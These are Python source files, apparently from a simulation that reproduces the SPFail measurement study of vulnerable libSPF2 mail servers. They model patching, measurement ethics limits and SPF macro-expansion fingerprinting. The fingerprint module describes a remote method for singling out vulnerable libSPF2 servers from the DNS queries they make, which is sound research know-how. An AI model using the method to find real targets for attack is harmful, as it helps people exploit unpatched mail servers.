    def weighted_choice(self, weights: Dict[T, float]) -> T:
        """Choose a key with probability proportional to its weight.

        Consumes exactly one ``random()`` draw and reproduces the linear
        cumulative scan bit-for-bit (same left-to-right float sums), so
        memoizing the table never perturbs generated populations.
        """
        cached = _WEIGHT_TABLES.get(id(weights))
        if cached is None or cached[0] is not weights:
            keys = list(weights.keys())
            cumulative = []
            total = 0.0
            for w in weights.values():
                total += w
                cumulative.append(total)
            if len(_WEIGHT_TABLES) >= _WEIGHT_TABLES_CAP:
                _WEIGHT_TABLES.clear()
            _WEIGHT_TABLES[id(weights)] = cached = (weights, keys, cumulative, total)
        _, keys, cumulative, total = cached
        point = self._random.random() * total
        index = bisect_right(cumulative, point)
        return keys[index] if index < len(keys) else keys[-1]

    def categorical(self, outcomes: Sequence[Tuple[T, float]]) -> T:
        """Choose among (outcome, probability) pairs; probabilities may be
        unnormalized."""
        return self.weighted_choice(dict(outcomes))

    def zipf_size(self, *, alpha: float = 1.6, max_size: int = 50000) -> int:
        """A heavy-tailed positive integer (hosting-unit size, etc.).

        Sampled by inverse transform over a truncated zeta distribution;
        most draws are 1, with a long tail of very large values — the
        shape of real mail-hosting consolidation.
        """
        # Rejection-free approximation: u^(-1/(alpha-1)) is Pareto-ish.
        u = self._random.random()
        size = int(u ** (-1.0 / (alpha - 1.0)))
        return max(1, min(size, max_size))

    def exponential_days(self, mean_days: float) -> float:
        """An exponentially distributed delay, in days."""
        return self._random.expovariate(1.0 / mean_days) if mean_days > 0 else 0.0

    def label(self, length: int) -> str:
        """A random lowercase alphanumeric DNS label."""
        return "".join(self._random.choice(_ALNUM) for _ in range(length))

    def domain_word(self, min_len: int = 4, max_len: int = 12) -> str:
        """A pronounceable-ish random second-level-domain word."""
        consonants = "bcdfghjklmnpqrstvwz"
        vowels = "aeiou"
        length = self._random.randint(min_len, max_len)
        out = []
        for i in range(length):
            out.append(self._random.choice(consonants if i % 2 == 0 else vowels))
        return "".join(out)
