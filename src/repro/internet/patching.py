"""The patch-behavior model.

Decides, for every vulnerable hosting unit, *whether*, *when*, and *why*
it replaces its vulnerable libSPF2 — reproducing the paper's observed
dynamics (Sections 7.2-7.8):

- a **proactive** contingent patches in the first measurement window,
  before any notification (dominated by .za: 98% of its eventual patchers
  moved in October/November);
- **package-manager** subscribers patch shortly after their distribution
  ships a fix (Table 6 — Debian's fix landed the day after public
  disclosure and drives the visible post-disclosure drop);
- **private notification** has a barely measurable effect (9 of 512
  openers patched between private and public disclosure);
- the **public disclosure** correlates with the largest wave;
- roughly 80% of initially vulnerable units never patch at all, and the
  Alexa Top 1000 patches least.

Plans are sampled lazily from a per-unit RNG fork (``unit-{unit_id}``),
so any unit's fate is answerable on first touch without walking the
fleet, and cached; a plan takes effect through the network's
sync-on-touch path — every ``server_at`` brings the server's patched
state up to the clock — rather than through scheduled callbacks, which
keeps snapshot restores and shard replicas consistent by construction.
"""

from __future__ import annotations

import datetime as _dt
import enum
from dataclasses import dataclass
from typing import Dict, Iterable, List, Optional

from ..clock import (
    INITIAL_MEASUREMENT,
    PRIVATE_NOTIFICATION,
    PUBLIC_DISCLOSURE,
    FINAL_MEASUREMENT,
    SimulatedClock,
)
from ..smtp.transport import Network
from .mta_fleet import HostingUnit, MtaFleet
from .package_managers import PACKAGE_MANAGER_TIMELINE, UNMANAGED_SHARE
from .population import DomainSet
from .rng import SeededRng
from .tld import PROACTIVE_PATCH_TLDS, TLD_PATCH_RATES


class PatchTrigger(enum.Enum):
    """Why a unit patched (or didn't)."""

    NONE = "none"
    PROACTIVE = "proactive"
    PACKAGE_MANAGER = "package-manager"
    PRIVATE_NOTIFICATION = "private-notification"
    PUBLIC_DISCLOSURE = "public-disclosure"


@dataclass
class PatchPlan:
    """One unit's sampled patching fate."""

    unit_id: int
    patch_date: Optional[_dt.datetime]
    trigger: PatchTrigger
    package_manager: Optional[str] = None

    @property
    def patches(self) -> bool:
        return self.patch_date is not None

    def patched_by(self, when: _dt.datetime) -> bool:
        return self.patch_date is not None and self.patch_date <= when


class PatchBehaviorModel:
    """Samples and applies patch plans for a fleet's vulnerable units."""

    def __init__(
        self,
        *,
        seed: int = 0,
        base_patch_probability: float = 0.17,
        alexa_1000_multiplier: float = 0.40,
        provider_patch_probability: float = 0.0,
        notification_response_probability: float = 0.02,
    ) -> None:
        #: Sequential stream for the notification coupling (opens arrive
        #: in event order, which every executor replays identically).
        self._rng = SeededRng(seed).fork("patching")
        #: Root for per-unit plan forks — plans are a function of
        #: (seed, unit_id), independent of sampling order.
        self._plan_root = SeededRng(seed).fork("patch-plans")
        self.base_patch_probability = base_patch_probability
        self.alexa_1000_multiplier = alexa_1000_multiplier
        self.provider_patch_probability = provider_patch_probability
        #: P(an opener patches *because of* the private notification).
        self.notification_response_probability = notification_response_probability
        self._plans: Dict[int, PatchPlan] = {}
        self._fleet: Optional[MtaFleet] = None

    def bind_fleet(self, fleet: MtaFleet) -> None:
        """Let :meth:`plans` enumerate the fleet's vulnerable units."""
        self._fleet = fleet

    # -- plan sampling -------------------------------------------------------

    def plan_for(self, unit: HostingUnit) -> PatchPlan:
        """The unit's (cached) patch plan."""
        plan = self._plans.get(unit.unit_id)
        if plan is None:
            plan = self._sample_plan(
                unit, self._plan_root.fork(f"unit-{unit.unit_id}")
            )
            self._plans[unit.unit_id] = plan
        return plan

    def plans(self) -> List[PatchPlan]:
        """Every plan the model would act on.

        Bound to a fleet, this enumerates the vulnerable units' plans
        (sampling any not yet touched) plus any cached plan the
        notification coupling rewrote; unbound models report only what
        they have sampled so far.
        """
        if self._fleet is None:
            return list(self._plans.values())
        for unit in self._fleet.vulnerable_units():
            self.plan_for(unit)
        return list(self._plans.values())

    def _patch_probability(self, unit: HostingUnit) -> float:
        tld = unit.primary_tld
        probability = TLD_PATCH_RATES.get(tld)
        if probability is None:
            probability = self.base_patch_probability
        if any(d.in_set(DomainSet.TOP_EMAIL_PROVIDERS) for d in unit.domains):
            return self.provider_patch_probability
        if any(d.in_set(DomainSet.ALEXA_1000) for d in unit.domains):
            probability *= self.alexa_1000_multiplier
        # Small operators patch more readily than big shared hosts — the
        # paper measured 24% of vulnerable MTAs but only 13% of vulnerable
        # domains patched, which requires exactly this size skew.
        if len(unit.domains) <= 2:
            probability *= 1.15
        elif len(unit.domains) > 20:
            probability *= 0.40
        return min(probability, 0.95)

    def _sample_plan(self, unit: HostingUnit, rng: SeededRng) -> PatchPlan:
        if not unit.is_vulnerable:
            return PatchPlan(unit.unit_id, None, PatchTrigger.NONE)
        if not rng.bernoulli(self._patch_probability(unit)):
            return PatchPlan(unit.unit_id, None, PatchTrigger.NONE)

        tld = unit.primary_tld

        # The unit *will* patch; sample how.  Conditioning the mechanism
        # on the decision keeps final patch rates pinned to the Table 5
        # TLD targets.

        # Proactive TLD communities (.za, .gr) patch early, unprompted.
        proactive_share = PROACTIVE_PATCH_TLDS.get(tld)
        if proactive_share is not None and rng.bernoulli(proactive_share):
            date = INITIAL_MEASUREMENT + _dt.timedelta(
                days=rng.uniform(4.0, 35.0)
            )
            return PatchPlan(unit.unit_id, date, PatchTrigger.PROACTIVE)

        # Package-manager subscribers ride their distribution's update.
        # Units still vulnerable at the initial measurement cannot have
        # patched earlier, so release + uptake lag is clamped into the
        # measurement window (RedHat/Gentoo shipped folded fixes *before*
        # October 11 — their slow-updating subscribers are the early-
        # window patching the paper attributes to proactive monitoring).
        manager = self._sample_patched_manager(rng)
        if manager is not None:
            record = next(r for r in PACKAGE_MANAGER_TIMELINE if r.name == manager)
            assert record.cve_33912_patch is not None
            date = record.cve_33912_patch + _dt.timedelta(
                days=rng.exponential_days(12.0)
            )
            if date <= INITIAL_MEASUREMENT:
                # Slow updaters of distributions that shipped before the
                # campaign: their uptake spreads across the first window
                # (the paper's pre-notification patching).
                date = INITIAL_MEASUREMENT + _dt.timedelta(
                    days=rng.uniform(5.0, 45.0)
                )
            return PatchPlan(
                unit.unit_id, date, PatchTrigger.PACKAGE_MANAGER,
                package_manager=manager,
            )

        # Unmanaged: a modest proactive share patches inside the first
        # measurement window (before any notification — the paper's
        # October/November wave); the rest follow disclosure.
        if rng.bernoulli(0.30):
            date = INITIAL_MEASUREMENT + _dt.timedelta(days=rng.uniform(4.0, 34.0))
            return PatchPlan(unit.unit_id, date, PatchTrigger.PROACTIVE)
        date = PUBLIC_DISCLOSURE + _dt.timedelta(days=rng.exponential_days(9.0))
        return PatchPlan(unit.unit_id, date, PatchTrigger.PUBLIC_DISCLOSURE)

    def _sample_patched_manager(self, rng: SeededRng) -> Optional[str]:
        """A package manager that shipped a fix, or None for unmanaged.

        Managers that never shipped contribute their weight to the
        unmanaged pool: their subscribers can only patch by hand.
        """
        outcomes = [
            (r.name, r.deployment_share)
            for r in PACKAGE_MANAGER_TIMELINE
            if r.cve_33912_patch is not None
        ]
        never = sum(
            r.deployment_share
            for r in PACKAGE_MANAGER_TIMELINE
            if r.cve_33912_patch is None
        )
        outcomes.append((None, UNMANAGED_SHARE + never))
        return rng.categorical(outcomes)

    # -- notification coupling --------------------------------------------------

    def on_notification_opened(self, unit: HostingUnit, when: _dt.datetime) -> bool:
        """An operator opened the private notification email.

        With small probability, a unit that was not otherwise going to
        patch (or was going to patch only after public disclosure) patches
        in response.  Returns True if the plan changed.
        """
        plan = self.plan_for(unit)
        if plan.patched_by(when):
            return False
        if not self._rng.bernoulli(self.notification_response_probability):
            return False
        date = when + _dt.timedelta(days=self._rng.exponential_days(12.0))
        if date >= PUBLIC_DISCLOSURE:
            # Slow responders are indistinguishable from disclosure-driven
            # patchers; leave the original plan in place.
            return False
        self._plans[unit.unit_id] = PatchPlan(
            unit.unit_id, date, PatchTrigger.PRIVATE_NOTIFICATION
        )
        return True

    # -- application ----------------------------------------------------------------

    def apply(
        self, fleet: MtaFleet, network: Network, clock: SimulatedClock
    ) -> int:
        """Wire this model into a fleet's network.

        No clock events are scheduled: the network applies
        ``server.patch()`` through its sync-on-touch path, asking this
        model (via :meth:`PatchPlan.patched_by`) whenever a vulnerable
        server is touched.  Returns the number of vulnerable units whose
        plan eventually patches — the count the old scheduler reported.
        """
        self.bind_fleet(fleet)
        if hasattr(network, "bind_patch_model"):
            network.bind_patch_model(self)
        planned = 0
        for unit in fleet.vulnerable_units():
            if self.plan_for(unit).patches:
                planned += 1
        return planned
