"""One-call assembly of the complete SPFail experiment.

:class:`Simulation` wires every subsystem together in the right order:

1. generate the domain population (:mod:`repro.internet.population`),
2. build and configure the MTA fleet (:mod:`repro.internet.mta_fleet`),
3. assign geography (:mod:`repro.internet.geo`),
4. construct the measurement campaign — which wires up the (lazy) SMTP
   network and DNS plumbing (:mod:`repro.core.campaign`),
5. bind the patch model so mid-campaign dynamics (patches, address
   moves) fold into servers as they are touched,
6. attach the private-notification machinery.

``Simulation.build(config=RunConfig(scale=...)).run()`` reproduces the
paper's entire four-month study; every analysis table/figure builder
consumes the returned artifacts.  A run checkpointed into a
:class:`repro.store.RunStore` can be reconstructed mid-timeline with
:meth:`Simulation.resume` and continued to a byte-identical finish.
"""

from __future__ import annotations

import warnings
from dataclasses import dataclass, field, replace as _dc_replace
from typing import Optional

from .api import RunConfig
from .clock import SimulatedClock
from .core.campaign import (
    CampaignConfig,
    CampaignResult,
    MeasurementCampaign,
)
from .core.inference import InferenceEngine
from .errors import SimulationError
from .internet.geo import GeoDatabase, assign_geography
from .internet.mta_fleet import MtaFleet, build_fleet
from .internet.patching import PatchBehaviorModel
from .internet.population import (
    DomainPopulation,
    PopulationConfig,
    generate_population,
)
from .notification.delivery import NotificationCampaign, NotificationReport
from .obs import Observation, observing

#: Sentinel distinguishing "not passed" from an explicit ``None`` in the
#: deprecated keyword shims of :meth:`Simulation.build`.
_UNSET = object()


@dataclass
class Simulation:
    """A fully wired SPFail experiment."""

    population: DomainPopulation
    fleet: MtaFleet
    geography: GeoDatabase
    clock: SimulatedClock
    patch_model: PatchBehaviorModel
    campaign: MeasurementCampaign
    notification: NotificationCampaign
    observation: Optional[Observation] = None
    result: Optional[CampaignResult] = None
    #: the config this simulation was built from (always set by ``build``).
    config: Optional[RunConfig] = None
    #: checkpoint provenance when this simulation was reconstructed by
    #: :meth:`resume` (a :class:`repro.store.RunProvenance`), else None.
    provenance: Optional[object] = None
    #: restored progress installed by :meth:`resume` (a
    #: :class:`repro.store.ResumeState`); :meth:`run` continues from it.
    _resume: Optional[object] = field(default=None, repr=False)

    @classmethod
    def build(
        cls,
        config: Optional[RunConfig] = None,
        *,
        observation: Optional[Observation] = None,
        scale: object = _UNSET,
        seed: object = _UNSET,
        population_config: object = _UNSET,
        campaign_config: object = _UNSET,
        executor: object = _UNSET,
        workers: object = _UNSET,
    ) -> "Simulation":
        """Assemble (but do not run) a complete experiment.

        The primary signature is ``build(config=RunConfig(...))``: one
        frozen, serializable value describes the whole run, and the
        process executor ships that same value to its worker processes
        to rebuild world replicas.  The ``scale``/``seed``/
        ``population_config``/``campaign_config``/``executor``/
        ``workers`` keywords are deprecated shims that assemble the
        equivalent :class:`~repro.api.RunConfig` (and warn).

        ``observation`` attaches a :class:`repro.obs.Observation`; its
        tracer is bound to the campaign's clock router so every trace
        event carries virtual (simulation) time, and it is activated for
        the duration of :meth:`run`.  It stays a live keyword (not part
        of the config) because it is a stateful sink, not a description
        of the run; ``config.trace`` records whether hosts should attach
        a tracing observation when they rebuild from the config.
        """
        legacy = {
            name: value
            for name, value in (
                ("scale", scale),
                ("seed", seed),
                ("population_config", population_config),
                ("campaign_config", campaign_config),
                ("executor", executor),
                ("workers", workers),
            )
            if value is not _UNSET
        }
        # An executor *instance* (or factory) cannot ride in a frozen,
        # serializable config; keep it aside and hand it straight to the
        # campaign.  String strategy names go through the config.
        live_executor = None
        if config is None:
            if legacy:
                warnings.warn(
                    "Simulation.build(scale=..., seed=..., ...) keywords are "
                    "deprecated; pass config=repro.api.RunConfig(...) instead",
                    DeprecationWarning,
                    stacklevel=2,
                )
            exec_spec = legacy.get("executor")
            if exec_spec is not None and not isinstance(exec_spec, str):
                live_executor = exec_spec
                exec_spec = None
            config = RunConfig(
                scale=legacy.get("scale", 0.05),
                seed=legacy.get("seed", 20211011),
                population=legacy.get("population_config"),
                campaign=legacy.get("campaign_config"),
                executor=exec_spec,
                workers=legacy.get("workers", 1),
            )
        elif legacy:
            raise SimulationError(
                "pass either config= or the deprecated keyword arguments, "
                f"not both (got {sorted(legacy)})"
            )

        population_config = config.resolved_population()
        campaign_config = config.resolved_campaign()
        seed = config.seed

        population = generate_population(population_config)
        fleet = build_fleet(population)
        geography = assign_geography(fleet, seed=seed)

        clock = SimulatedClock(start=campaign_config.initial_measurement)
        patch_model = PatchBehaviorModel(seed=seed)

        campaign = MeasurementCampaign(
            population,
            fleet,
            config=campaign_config,
            clock=clock,
            executor=live_executor if live_executor is not None else config.executor,
            workers=config.workers,
            retry=config.retry,
            # The config doubles as the world value the process executor's
            # children rebuild their shard slice from.
            world=config,
        )
        notification = NotificationCampaign(
            fleet, patch_model, campaign.network, clock, seed=seed
        )
        campaign.notifier = notification.send_notifications

        # Ground-truth dynamics (patches, address moves) are a function
        # of the clock, folded into servers on touch; binding the patch
        # model is all the wiring they need.
        patch_model.bind_fleet(fleet)
        campaign.network.bind_patch_model(patch_model)
        if config.world == "eager":
            campaign.network.materialize_all()

        if observation is not None:
            observation.bind_clock(campaign.clock_router)

        return cls(
            population=population,
            fleet=fleet,
            geography=geography,
            clock=clock,
            patch_model=patch_model,
            campaign=campaign,
            notification=notification,
            observation=observation,
            config=config,
        )

    @classmethod
    def resume(
        cls,
        source,
        *,
        config: Optional[RunConfig] = None,
        observation: Optional[Observation] = None,
        executor: object = _UNSET,
        workers: object = _UNSET,
        perf: object = _UNSET,
    ) -> "Simulation":
        """Reconstruct a checkpointed campaign mid-timeline.

        ``source`` is a :class:`repro.store.RunStore` (the newest usable
        checkpoint is loaded — of the run matching ``config``'s content
        hash when given, else the most recently written run) or an
        already-loaded :class:`repro.store.RunState`.

        The world is rebuilt from the stored config, the clock is
        fast-forwarded through every scheduled notification event up to
        the checkpoint instant (patch and move effects need no replay —
        they are pure functions of the clock, folded into each server
        on touch), and the snapshotted mutable state is installed on
        top, so :meth:`run` continues with the
        remaining rounds and finishes byte-identical to an uninterrupted
        run.  ``executor``/``workers`` optionally override the stored
        runtime strategy — they are outside the content hash precisely
        because results do not depend on them.
        """
        from .store import RunState, RunStore, restore_simulation

        if isinstance(source, RunState):
            state = source
        elif isinstance(source, RunStore):
            state = source.load_latest(
                config_hash=config.content_hash() if config is not None else None
            )
        else:
            raise SimulationError(
                f"cannot resume from {type(source).__name__}; pass a "
                "repro.store.RunStore or RunState"
            )

        cfg = state.config
        overrides = {}
        if executor is not _UNSET:
            overrides["executor"] = executor
        if workers is not _UNSET:
            overrides["workers"] = workers
        if perf is not _UNSET:
            # Runtime-only: whether this resumed leg is profiled is the
            # caller's choice, never the checkpoint's.
            overrides["perf"] = perf
        if overrides:
            cfg = _dc_replace(cfg, **overrides)

        sim = cls.build(config=cfg, observation=observation)
        restore_simulation(sim, state)
        return sim

    def run(self, *, store=None) -> CampaignResult:
        """Execute (or continue) the campaign timeline; caches the result.

        ``store`` is an optional :class:`repro.store.RunStore` (or an
        already-bound :class:`repro.store.CheckpointWriter`): the run
        then checkpoints after the initial sweep and after every
        completed round, and a resumed simulation keeps appending to the
        same run directory.
        """
        if self.result is None:
            writer = store
            if store is not None and hasattr(store, "writer"):
                writer = store.writer(self)
            try:
                if self.observation is not None:
                    with observing(self.observation):
                        self.result = self._run_campaign(writer)
                else:
                    self.result = self._run_campaign(writer)
            finally:
                # Always release worker processes — a raising run must
                # not leak live children (and a finished one is done
                # with them: the result is cached above).
                self.campaign.executor.shutdown()
                # A store-built writer holds the single-writer lock;
                # release it even when the run aborted so a later
                # resume is not locked out by a dead run.
                if writer is not store and hasattr(writer, "close"):
                    writer.close()
        return self.result

    def _run_campaign(self, writer) -> CampaignResult:
        if self._resume is not None:
            return self.campaign.resume_run(self._resume, store=writer)
        return self.campaign.run(store=writer)

    def inference(self) -> InferenceEngine:
        """An inference engine over the (run) campaign's rounds."""
        result = self.run()
        return InferenceEngine(result.initial, result.rounds)

    @property
    def notification_report(self) -> Optional[NotificationReport]:
        if self.result is None:
            return None
        report = self.result.notification_report
        return report if isinstance(report, NotificationReport) else None
