"""One-call assembly of the complete SPFail experiment.

:class:`Simulation` wires every subsystem together in the right order:

1. generate the domain population (:mod:`repro.internet.population`),
2. build and configure the MTA fleet (:mod:`repro.internet.mta_fleet`),
3. assign geography (:mod:`repro.internet.geo`),
4. construct the measurement campaign — which materializes the live SMTP
   network and DNS plumbing (:mod:`repro.core.campaign`),
5. schedule patch events and mid-campaign moves on the shared clock,
6. attach the private-notification machinery.

``Simulation.build(scale=...).run()`` reproduces the paper's entire
four-month study; every analysis table/figure builder consumes the
returned artifacts.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Optional

from .clock import SimulatedClock
from .core.campaign import (
    CampaignConfig,
    CampaignResult,
    MeasurementCampaign,
)
from .core.inference import InferenceEngine
from .internet.geo import GeoDatabase, assign_geography
from .internet.mta_fleet import MtaFleet, build_fleet
from .internet.patching import PatchBehaviorModel
from .internet.population import (
    DomainPopulation,
    PopulationConfig,
    generate_population,
)
from .exec.shardworld import WorldSpec
from .notification.delivery import NotificationCampaign, NotificationReport
from .obs import Observation, observing


@dataclass
class Simulation:
    """A fully wired SPFail experiment."""

    population: DomainPopulation
    fleet: MtaFleet
    geography: GeoDatabase
    clock: SimulatedClock
    patch_model: PatchBehaviorModel
    campaign: MeasurementCampaign
    notification: NotificationCampaign
    observation: Optional[Observation] = None
    result: Optional[CampaignResult] = None

    @classmethod
    def build(
        cls,
        *,
        scale: float = 0.05,
        seed: int = 20211011,
        population_config: Optional[PopulationConfig] = None,
        campaign_config: Optional[CampaignConfig] = None,
        executor: Optional[object] = None,
        workers: int = 1,
        observation: Optional[Observation] = None,
    ) -> "Simulation":
        """Assemble (but do not run) a complete experiment.

        ``executor`` selects the probe-execution strategy ("serial",
        "sharded", or "process", an executor instance, or a factory over
        the campaign's :class:`~repro.exec.ExecutionEnvironment`);
        ``workers`` sizes the sharded/process worker pool.  Results are
        byte-identical across strategies for the same seed.  The process
        strategy ships a :class:`~repro.exec.WorldSpec` built from this
        method's own inputs, from which each worker process rebuilds its
        shard of the world.

        ``observation`` attaches a :class:`repro.obs.Observation`; its
        tracer is bound to the campaign's clock router so every trace
        event carries virtual (simulation) time, and it is activated for
        the duration of :meth:`run`.
        """
        population_config = population_config or PopulationConfig(scale=scale, seed=seed)
        campaign_config = campaign_config or CampaignConfig()

        population = generate_population(population_config)
        fleet = build_fleet(population)
        geography = assign_geography(fleet, seed=seed)

        clock = SimulatedClock(start=campaign_config.initial_measurement)
        patch_model = PatchBehaviorModel(seed=seed)

        # The same seeded inputs this method assembles from, as a value:
        # the process executor's children rebuild their world slice from it.
        world = WorldSpec(
            population_config=population_config,
            campaign_config=campaign_config,
            seed=seed,
        )
        campaign = MeasurementCampaign(
            population,
            fleet,
            config=campaign_config,
            clock=clock,
            executor=executor,
            workers=workers,
            world=world,
        )
        notification = NotificationCampaign(
            fleet, patch_model, campaign.network, clock, seed=seed
        )
        campaign.notifier = notification.send_notifications

        # Ground-truth dynamics ride the shared clock.
        patch_model.apply(fleet, campaign.network, clock)
        fleet.schedule_moves(campaign.network, clock)

        if observation is not None:
            observation.bind_clock(campaign.clock_router)

        return cls(
            population=population,
            fleet=fleet,
            geography=geography,
            clock=clock,
            patch_model=patch_model,
            campaign=campaign,
            notification=notification,
            observation=observation,
        )

    def run(self) -> CampaignResult:
        """Execute the full campaign timeline; caches the result."""
        if self.result is None:
            if self.observation is not None:
                with observing(self.observation):
                    self.result = self.campaign.run()
            else:
                self.result = self.campaign.run()
            # The timeline is complete and the result cached; worker
            # processes (if the process strategy ran it) can go home.
            self.campaign.executor.shutdown()
        return self.result

    def inference(self) -> InferenceEngine:
        """An inference engine over the (run) campaign's rounds."""
        result = self.run()
        return InferenceEngine(result.initial, result.rounds)

    @property
    def notification_report(self) -> Optional[NotificationReport]:
        if self.result is None:
            return None
        report = self.result.notification_report
        return report if isinstance(report, NotificationReport) else None
