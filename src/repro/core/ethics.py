"""The measurement's self-imposed ethical limits (paper Section 6.1).

The paper's controls, all enforced here so tests can verify them:

- duplicate IP addresses are tested once per round;
- at most 250 simulated-concurrent outgoing SMTP connections;
- a minimum 90-second wait between connections to the same address (or
  to addresses sharing an email domain);
- an 8-minute wait before retrying a greylisted server;
- after the initial sweep, only addresses found vulnerable or
  inconclusive-but-remeasurable are contacted again.

Violations raise :class:`EthicsViolation` — the measurement code treats
these limits as invariants, not suggestions.
"""

from __future__ import annotations

import datetime as _dt
import threading
from dataclasses import dataclass, field
from typing import Dict, Optional, Set

from ..errors import ReproError


class EthicsViolation(ReproError):
    """A measurement action would have broken the self-imposed limits."""


@dataclass
class EthicsControls:
    """Tracks and enforces the measurement limits."""

    max_concurrent_connections: int = 250
    min_reconnect_wait: _dt.timedelta = _dt.timedelta(seconds=90)
    greylist_wait: _dt.timedelta = _dt.timedelta(minutes=8)

    _last_contact: Dict[str, _dt.datetime] = field(default_factory=dict)
    _active: int = 0
    peak_concurrency: int = 0
    connections_opened: int = 0
    #: The ledger is shared by every probe-execution worker; the lock
    #: keeps the accounting exact even under a threaded worker pool.
    _lock: threading.Lock = field(
        default_factory=threading.Lock, repr=False, compare=False
    )

    # -- connection accounting ------------------------------------------------

    def connection_opened(self, ip: str, now: _dt.datetime) -> None:
        """Record an outgoing connection; enforces concurrency and waits."""
        with self._lock:
            if self._active >= self.max_concurrent_connections:
                raise EthicsViolation(
                    f"concurrency cap exceeded ({self.max_concurrent_connections})"
                )
            last = self._last_contact.get(ip)
            if last is not None and now - last < self.min_reconnect_wait:
                raise EthicsViolation(
                    f"reconnected to {ip} after "
                    f"{(now - last).total_seconds():.0f}s (< 90s)"
                )
            self._active += 1
            self.peak_concurrency = max(self.peak_concurrency, self._active)
            self.connections_opened += 1
            self._last_contact[ip] = now

    def connection_closed(self) -> None:
        with self._lock:
            if self._active <= 0:
                raise EthicsViolation("closing a connection that was never opened")
            self._active -= 1

    # -- wait computation ------------------------------------------------------

    def earliest_recontact(self, ip: str, *, greylisted: bool = False) -> Optional[_dt.datetime]:
        """When ``ip`` may next be contacted (None = immediately)."""
        last = self._last_contact.get(ip)
        if last is None:
            return None
        wait = self.greylist_wait if greylisted else self.min_reconnect_wait
        return last + wait

    def reset_round(self) -> None:
        """Start a new measurement round (waits persist; counters reset)."""
        self._active = 0


def dedupe_ips(ip_lists: Dict[str, list]) -> Dict[str, list]:
    """domain → ips, inverted to unique ip → domains (tested once each)."""
    by_ip: Dict[str, list] = {}
    for domain, ips in ip_lists.items():
        for ip in ips:
            by_ip.setdefault(ip, []).append(domain)
    return by_ip
