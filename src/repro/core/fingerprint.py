"""Classifying observed macro expansions (paper Section 4.2).

The measurement SPF policy's first mechanism is::

    a:%{d1r}.<id>.<suite>.spf-test.dns-lab.org

For a MAIL FROM domain ``<id>.<suite>.spf-test.dns-lab.org`` (labels
``[id, suite, b1, ..., bk]`` where ``b1..bk`` is the measurement base),
each SPF implementation expands ``%{d1r}`` differently, and the A/AAAA
query it then issues carries the expansion as a prefix in front of
``<id>.<suite>.<base>``:

==============================  ===========================================
expansion prefix observed        classification
==============================  ===========================================
``<id>``                         RFC-compliant
``bk . bk ... b1 . suite . id``  **vulnerable libSPF2** (duplicated label,
                                 unreversed, untruncated — unique)
``bk ... b1 . suite . id``       reversed but not truncated
``bk``                           truncated but not reversed
``%{d1r}`` (literal)             no macro expansion at all
``b`` (the control mechanism)    ignored — proves SPF processing continued
anything else                    other erroneous expansion
==============================  ===========================================
"""

from __future__ import annotations

import enum
from typing import Iterable, List, Optional, Sequence, Set

from ..dns.name import Name


class ExpansionBehavior(enum.Enum):
    """The observable SPF macro-expansion classes."""

    RFC_COMPLIANT = "rfc-compliant"
    VULNERABLE_LIBSPF2 = "vulnerable-libspf2"
    NO_EXPANSION = "no-expansion"
    REVERSED_NOT_TRUNCATED = "reversed-not-truncated"
    TRUNCATED_NOT_REVERSED = "truncated-not-reversed"
    OTHER_ERRONEOUS = "other-erroneous"

    @property
    def is_erroneous(self) -> bool:
        return self != ExpansionBehavior.RFC_COMPLIANT

    @property
    def is_vulnerable(self) -> bool:
        return self == ExpansionBehavior.VULNERABLE_LIBSPF2


#: The control mechanism's static label (``a:b.<id>.<suite>.<base>``).
CONTROL_LABEL = "b"


def _domain_labels(test_id: str, suite: str, base: Name) -> List[str]:
    return [test_id.lower(), suite.lower()] + [l.lower() for l in base.labels]


def expected_prefixes(test_id: str, suite: str, base: Name) -> dict:
    """behavior → the exact prefix labels it produces for this test."""
    labels = _domain_labels(test_id, suite, base)
    reversed_labels = list(reversed(labels))
    return {
        ExpansionBehavior.RFC_COMPLIANT: [labels[0]],
        ExpansionBehavior.VULNERABLE_LIBSPF2: [reversed_labels[0]] + reversed_labels,
        ExpansionBehavior.REVERSED_NOT_TRUNCATED: reversed_labels,
        ExpansionBehavior.TRUNCATED_NOT_REVERSED: [labels[-1]],
        ExpansionBehavior.NO_EXPANSION: ["%{d1r}"],
    }


def classify_prefix(
    prefix: Name, test_id: str, suite: str, base: Name
) -> Optional[ExpansionBehavior]:
    """Classify one observed expansion prefix.

    Returns ``None`` for the control mechanism's query (which proves SPF
    processing but says nothing about macro handling).
    """
    observed = [label.lower() for label in prefix.labels]
    if observed == [CONTROL_LABEL]:
        return None
    for behavior, expected in expected_prefixes(test_id, suite, base).items():
        if observed == expected:
            return behavior
    return ExpansionBehavior.OTHER_ERRONEOUS


def classify_prefixes(
    prefixes: Iterable[Name], test_id: str, suite: str, base: Name
) -> Set[ExpansionBehavior]:
    """Classify every observed prefix; duplicates collapse.

    A server can legitimately produce *several* distinct behaviors (an MTA
    plus a spam filter with different SPF stacks — the paper saw this on
    6% of measurable IPs).
    """
    behaviors: Set[ExpansionBehavior] = set()
    for prefix in prefixes:
        behavior = classify_prefix(prefix, test_id, suite, base)
        if behavior is not None:
            behaviors.add(behavior)
    return behaviors
