"""Unique test labels (paper Section 5.1).

Every probed server gets a unique 4- or 5-character alphanumeric ``<id>``
label, and every test suite (measurement round) gets its own ``<suite>``
label.  Advertised MAIL FROM domains look like::

    <username>@<id>.<suite>.spf-test.dns-lab.org

Uniqueness serves two purposes: it ties every DNS query the measurement
server receives to exactly one (round, server) pair, and it guarantees no
query can be absorbed by a recursive resolver's cache.
"""

from __future__ import annotations

import string
from typing import Dict, Optional, Set, Tuple

from ..dns.name import Name
from ..errors import SimulationError

_ALPHABET = string.ascii_lowercase + string.digits


def _encode(value: int, width: int) -> str:
    chars = []
    for _ in range(width):
        value, digit = divmod(value, len(_ALPHABET))
        chars.append(_ALPHABET[digit])
    return "".join(reversed(chars))


class LabelAllocator:
    """Hands out unique id labels per suite and remembers the mapping."""

    def __init__(self, base: Name) -> None:
        self.base = base
        self._next_suite = 0
        self._next_id: Dict[str, int] = {}
        self._ip_for_label: Dict[Tuple[str, str], str] = {}

    def new_suite(self) -> str:
        """A fresh test-suite label."""
        label = "s" + _encode(self._next_suite, 4)
        self._next_suite += 1
        self._next_id[label] = 0
        return label

    def new_id(self, suite: str, target_ip: str) -> str:
        """A fresh server id label within a suite, bound to ``target_ip``."""
        if suite not in self._next_id:
            raise SimulationError(f"unknown suite label {suite!r}")
        counter = self._next_id[suite]
        self._next_id[suite] = counter + 1
        width = 4 if counter < len(_ALPHABET) ** 4 // 2 else 5
        label = _encode(counter, width)
        self._ip_for_label[(suite, label)] = target_ip
        return label

    def ip_for(self, suite: str, test_id: str) -> Optional[str]:
